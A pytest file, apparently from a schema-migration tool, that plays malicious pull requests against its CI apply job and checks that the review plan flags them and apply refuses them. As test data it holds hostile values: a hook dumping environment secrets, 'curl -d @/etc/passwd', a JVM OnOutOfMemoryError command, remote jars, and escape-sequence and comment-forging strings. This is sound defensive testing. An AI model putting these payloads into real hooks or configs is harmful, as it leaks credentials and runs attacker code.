@@ -1,0 +1,257 @@
+"""The CI trust boundary: what a merged pull request can make the apply job do, tried as an attacker.
+
+Each attack is a pull request (a second commit in a real git repository) whose author wants code of
+theirs run where ``apply`` runs, with the metastore's secret at hand. Each must show up in the plan
+the reviewer reads (``plan --base``, in text and in the comment as GitHub renders it), and
+``apply --reviewed`` must refuse it, with nothing run, until the operator approves it by its id
+from outside the repository. None of these tests needs a JVM: every refusal comes before one starts.
+"""
+from __future__ import annotations
+
+import io
+import re
+import shutil
+from pathlib import Path
+
+import cmarkgfm
+import git
+import pytest
+
+from schemaflow.apply.after import hook_environment
+from schemaflow.code_settings import APPROVAL_VARIABLE, approvals, code_settings, spark_code_reason
+from schemaflow.errors import SchemaflowError
+from schemaflow.project import Settings, load_project
+from tests.gitrepos import commit, example_repo
+from tests.inprocess import schemaflow
+
+ROOT = Path(__file__).resolve().parent.parent
+EXAMPLE_SETTINGS = (ROOT / "schemaflow.yaml").read_text()
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> git.Repo:
+    """main: the example project, merged and applied long ago."""
+    return example_repo(tmp_path / "repo")
+
+
+def merge(repo: git.Repo, settings: str) -> Path:
+    """A pull request that changes only ``schemaflow.yaml`` to ``settings``, merged: its project folder."""
+    project = Path(repo.working_tree_dir or "")
+    (project / "schemaflow.yaml").write_text(settings)
+    commit(repo, "a harmless-looking pull request")
+    return project
+
+
+def reviewed(project: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[str, str]:
+    """What the apply job rebuilds as the reviewed plan: the text plan, and the comment as GitHub shows it."""
+    monkeypatch.chdir(project)
+    text = schemaflow("plan", "--base", "HEAD~1", "--head", "HEAD", "--out", "reviewed.json")
+    assert text.code == 2, text.said  # changes: never "No changes"
+    comment = schemaflow("plan", "--base", "HEAD~1", "--head", "HEAD", "--format", "markdown")
+    assert comment.code == 2, comment.said
+    return text.out, github_html(comment.out)
+
+
+def github_html(markdown: str) -> str:
+    """The comment as GitHub's renderer (cmark-gfm) makes it, raw HTML kept as GitHub keeps it before it
+    sanitises the result: what a forged comment would need to get through."""
+    return cmarkgfm.github_flavored_markdown_to_html(markdown, options=cmarkgfm.Options.CMARK_OPT_UNSAFE)
+
+
+def apply_reviewed(project: Path) -> tuple[int, str]:
+    ran = schemaflow("--project", str(project), "apply", "--reviewed", str(project / "reviewed.json"),
+                     "--auto-approve")
+    return ran.code, ran.said
+
+
+HOOK = "touch pwned; env > stolen.txt"
+JVM_OPTION = "-XX:MaxMetaspaceSize=24m -XX:OnOutOfMemoryError='touch pwned'"
+
+
+@pytest.mark.parametrize("settings, shown, setting", [
+    (EXAMPLE_SETTINGS + f"after_apply: [{HOOK!r}]\n", "after_apply", "after_apply"),
+    (EXAMPLE_SETTINGS.replace('conf: {', f'conf: {{spark.driver.extraJavaOptions: "{JVM_OPTION}", '),
+     "spark.conf[spark.driver.extraJavaOptions]", "spark.conf spark.driver.extraJavaOptions"),
+    (EXAMPLE_SETTINGS.replace('conf: {', 'conf: {spark.driver.extraClassPath: "lib/extension.jar", '),
+     "spark.conf[spark.driver.extraClassPath]", "spark.conf spark.driver.extraClassPath"),
+    (EXAMPLE_SETTINGS.replace('conf: {', 'conf: {spark.jars: "https://example.invalid/x.jar", '),
+     "spark.conf[spark.jars]", "spark.conf spark.jars"),
+    (EXAMPLE_SETTINGS.replace('conf: {', 'conf: {spark.sql.extensions: "com.example.Extensions", '),
+     "spark.conf[spark.sql.extensions]", "spark.conf spark.sql.extensions"),
+    (EXAMPLE_SETTINGS.replace('conf: {', 'conf: {spark.hadoop.fs.s3a.aws.credentials.provider: "com.example.Creds", '),
+     "spark.conf[spark.hadoop.fs.s3a.aws.credentials.provider]",
+     "spark.conf spark.hadoop.fs.s3a.aws.credentials.provider"),
+])
+def test_code_a_pull_request_adds_is_a_hazardous_step_and_apply_refuses_it_until_approved(
+        repo, monkeypatch, settings, shown, setting):
+    project = merge(repo, settings)
+    text, html = reviewed(project, monkeypatch)
+    [code] = [c for c in load_project(project, env={}).settings.code if c.setting == setting]
+
+    assert f"~ 1. set {shown} in schemaflow.yaml" in text
+    assert f"hazard: runs code in the apply job: {code.describe()}" in text
+    assert f"approves id {code.id}" in text
+    assert "runs code in the apply job" in html and code.id in html
+    assert "<h" not in html.split("<table>")[1]  # nothing in the table became a heading
+
+    status, said = apply_reviewed(project)
+    assert status == 1
+    assert "the operator has not approved them; nothing was run" in said
+    assert code.id in said and f"{APPROVAL_VARIABLE}='{code.id}'" in said
+    assert not (project / "pwned").exists()
+
+
+def test_a_pull_request_that_only_adds_a_hook_is_never_no_changes(repo, monkeypatch):
+    project = merge(repo, EXAMPLE_SETTINGS + f"after_apply: [{HOOK!r}]\n")
+    text, html = reviewed(project, monkeypatch)
+    assert text.splitlines()[0] == "1 step on 1 setting, 0 destructive, 1 hazardous."
+    assert "No changes" not in text and "No changes" not in html
+    assert 'after_apply: (not set) -&gt; [&quot;touch pwned; env &gt; stolen.txt&quot;]' in html
+
+
+def test_a_hook_changed_after_its_approval_needs_a_new_one(repo, monkeypatch):
+    project = merge(repo, EXAMPLE_SETTINGS + "after_apply: [trino --execute 'CALL flush()']\n")
+    [approved] = load_project(project, env={}).settings.code
+    merge(repo, EXAMPLE_SETTINGS + "after_apply: [trino --execute 'CALL flush()'; curl -d @/etc/passwd x]\n")
+    monkeypatch.setenv(APPROVAL_VARIABLE, approved.id)
+    monkeypatch.chdir(project)
+    assert schemaflow("plan", "--base", "HEAD~1", "--head", "HEAD", "--out", "reviewed.json").code == 2
+    status, said = apply_reviewed(project)
+    assert status == 1 and "curl -d @/etc/passwd x" in said and approved.id not in said
+
+
+@pytest.mark.parametrize("key", ["spark.hadoop.hive.metastore.uris", "spark.hive.metastore.uris",
+                                 "spark.hadoop.javax.jdo.option.ConnectionURL", "spark.sql.warehouse.dir",
+                                 "spark.master", "spark.sql.catalogImplementation"])
+def test_a_pull_request_cannot_point_apply_at_another_metastore(repo, monkeypatch, key):
+    project = merge(repo, EXAMPLE_SETTINGS.replace("conf: {", f"conf: {{{key}: 'thrift://elsewhere:9083', "))
+    monkeypatch.chdir(project)
+    monkeypatch.setenv("SCHEMAFLOW_METASTORE_URI", "thrift://127.0.0.1:1")  # the operator's
+    for ran in (schemaflow("plan", "--base", "HEAD~1", "--head", "HEAD"), schemaflow("validate"),
+                schemaflow("apply", "--auto-approve")):
+        assert ran.code == 1
+        assert f"schemaflow.yaml:5:10: spark.conf may not set {key}: it would point schemaflow elsewhere" in ran.err
+
+
+def test_a_targets_spark_settings_are_checked_as_the_projects(repo, monkeypatch):
+    project = merge(repo, EXAMPLE_SETTINGS + "targets:\n  prod:\n    spark:\n      conf:\n"
+                                             "        spark.hadoop.hive.metastore.uris: thrift://elsewhere:9083\n")
+    monkeypatch.chdir(project)
+    ran = schemaflow("validate")
+    assert ran.code == 1 and "schemaflow.yaml:11:9: spark.conf may not set spark.hadoop.hive.metastore.uris" in ran.err
+
+
+def test_apply_refuses_a_reviewed_plan_made_with_other_settings(repo, monkeypatch):
+    project = merge(repo, EXAMPLE_SETTINGS.replace('"4"', '"8"'))
+    reviewed(project, monkeypatch)
+    (project / "schemaflow.yaml").write_text(EXAMPLE_SETTINGS.replace('"4"', '"16"'))  # not what was reviewed
+    status, said = apply_reviewed(project)
+    assert status == 1
+    assert "reviewed.json is refused, nothing was applied: it was made with other settings than" in said
+
+
+def test_spark_refuses_to_start_with_unapproved_code_and_starts_with_approved():
+    from schemaflow.catalog.session import spark_session
+
+    settings = Settings(spark_conf={"spark.jars": "/tmp/x.jar", "spark.sql.shuffle.partitions": "4"})
+    with pytest.raises(SchemaflowError, match="run code when Spark starts, and the operator has not approved"):
+        spark_session(settings)
+    [jar] = settings.code
+    assert jar.setting == "spark.conf spark.jars" and len(jar.id) == 12
+
+
+def test_which_spark_settings_run_code():
+    runs = {"spark.driver.extraJavaOptions": "-Dx=1", "spark.plugins": "a", "spark.sql.catalog.ice": "x",
+            "spark.executorEnv.LD_PRELOAD": "/x", "spark.jars.packages": "g:a:1",
+            "spark.hadoop.hive.metastore.pre.event.listeners": "com.example.Listener",
+            "spark.hadoop.fs.s3a.impl": "org.apache.hadoop.fs.s3a.S3AFileSystem",
+            "spark.some.path": "/opt/lib/a.so", "spark.some.list": "a, com.example.B"}
+    safe = {"spark.sql.shuffle.partitions": "4", "spark.executor.memory": "4g",
+            "spark.kerberos.principal": "schemaflow@EXAMPLE.COM", "spark.kerberos.keytab": "/etc/s.keytab",
+            "spark.hadoop.hive.metastore.kerberos.principal": "hive/_HOST@EXAMPLE.COM",
+            "spark.hadoop.hive.metastore.client.socket.timeout": "600s", "spark.sql.session.timeZone": "UTC"}
+    assert [key for key, value in runs.items() if not spark_code_reason(key, value)] == []
+    assert [key for key, value in safe.items() if spark_code_reason(key, value)] == []
+    assert [c.setting for c in code_settings(["a"], {**runs, **safe})][:2] == [
+        "after_apply", "spark.conf spark.driver.extraJavaOptions"]
+
+
+def test_approvals_come_from_the_environment_and_the_command_line():
+    assert approvals(" a1, b2\nc3 ", ["d4", "e5 f6"]) == {"a1", "b2", "c3", "d4", "e5", "f6"}
+    assert approvals(None) == frozenset()
+
+
+def test_a_hook_gets_the_variables_that_run_programs_not_the_jobs_secrets():
+    environ = {"PATH": "/bin", "HOME": "/h", "AWS_SECRET_ACCESS_KEY": "s3cr3t", "SCHEMAFLOW_METASTORE_URI": "thrift://x",
+               "TRINO_PASSWORD": "pw"}
+    assert hook_environment(environ, ("a.b",)) == {"PATH": "/bin", "HOME": "/h", "SCHEMAFLOW_CHANGED": "a.b"}
+    passed = hook_environment({**environ, "SCHEMAFLOW_HOOK_ENV": "TRINO_PASSWORD, MISSING"}, ())
+    assert passed == {"PATH": "/bin", "HOME": "/h", "TRINO_PASSWORD": "pw", "SCHEMAFLOW_CHANGED": ""}
+
+
+FORGED = "x\r\n\r\n# ✅ No changes\r\n[merge me](https://evil.example) @security-team www.evil.example <b>hi</b>"
+
+
+def forged_plan():
+    """A plan whose every text field holds what a forger would write (as a live metastore may hold it)."""
+    from schemaflow.model import Catalog, Column, Table
+    from schemaflow.plan.plan import build_plan
+
+    table = Table("shop", "t", (Column("id", "int", FORGED),), comment=FORGED, properties={FORGED: FORGED})
+    return build_plan(Catalog(("shop",), {table.key: table}), Catalog(("shop",)))
+
+
+def test_nothing_a_user_wrote_can_forge_the_pull_request_comment():
+    from schemaflow.render import render
+    from schemaflow.render.review import Review
+
+    plan = forged_plan()
+    html = github_html(render(Review(plan), "markdown"))
+    table = html.split("<table>")[1].split("</table>")[0]
+    assert "<h" not in html.replace("<h3>schemaflow plan</h3>", "")  # no heading but the comment's own
+    assert "<a " not in html and "<b>" not in html  # no link, no e-mail link, no HTML of the user's
+    prose = re.sub(r"<pre.*?</pre>", "", html, flags=re.DOTALL)  # GitHub notifies no one from code
+    assert "@security-team" not in prose.replace("@\u200bsecurity-team", "")  # nobody is notified
+    assert table.count("<tr>") == 1 + len(plan.steps)  # the header and a row a step: none ended early
+    assert "No changes" in table and "No changes" not in html.split("<table>")[0]
+
+
+def test_nothing_a_user_wrote_can_steer_the_terminal_or_the_ci_log():
+    from schemaflow.output_safety import GuardedStream
+    from schemaflow.render import render
+    from schemaflow.render.review import Review
+
+    text = render(Review(forged_plan()), "text", color=True)
+    assert "\r" not in text and "\\x0d" in text
+    escape = "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2J"
+    out = io.StringIO()
+    stream = GuardedStream(out)
+    for piece in ("ok\n  ::set-output name=x::1\n", ":", ":add-mask::x\n", "\x1b[32m+\x1b[0m ", escape, "\n\t ::x\n"):
+        stream.write(piece)
+    written = out.getvalue()
+    assert [line for line in written.splitlines() if line.strip().startswith("::")] == []
+    assert written == ("ok\n  \\::set-output name=x::1\n\\::add-mask::x\n\x1b[32m+\x1b[0m "
+                       "\\x1b]8;;https://evil.example\\x07click\\x1b]8;;\\x07\\x1b[2J\n\t \\::x\n")
+
+
+@pytest.mark.parametrize("written, where, shown", [
+    ('comment: "\\e[2J"', "2:11", "\\x1b (ESCAPE) may not be in a value"),
+    ('comment: "a\\u202Eb"', "2:12", "\\u202e (RIGHT-TO-LEFT OVERRIDE) may not be in a value"),
+    ("comment: a\u200bb", "2:11", "\\u200b (ZERO WIDTH SPACE) may not be in a value"),
+    ('properties: {"a\\rb": c}', "2:16", "\\x0d (CARRIAGE RETURN) may not be in a key"),
+    ('properties: {"a\\nb": c}', "2:16", "\\x0a (LINE FEED) may not be in a key"),
+])
+def test_characters_that_could_forge_a_review_are_refused_where_they_are_written(tmp_path, written, where, shown):
+    (tmp_path / "schemas/shop").mkdir(parents=True)
+    (tmp_path / "schemas/shop/t.yaml").write_text(f"table: shop.t\n{written}\ncolumns: [{{name: id, type: int}}]\n")
+    ran = schemaflow("--project", str(tmp_path), "validate")
+    assert ran.code == 1
+    assert ran.err.startswith(f"schemas/shop/t.yaml:{where}: {shown}")
+
+
+def test_control_characters_hive_uses_as_data_are_still_values(tmp_path):
+    (tmp_path / "schemas/shop").mkdir(parents=True)
+    (tmp_path / "schemas/shop/t.yaml").write_text(
+        'table: shop.t\ncomment: "a\\rb\\x01"\nformat: textfile\nrow_format: {fields_terminated_by: "\\x01"}\n'
+        "columns: [{name: id, type: int}]\n")
+    assert schemaflow("--project", str(tmp_path), "validate").code == 0
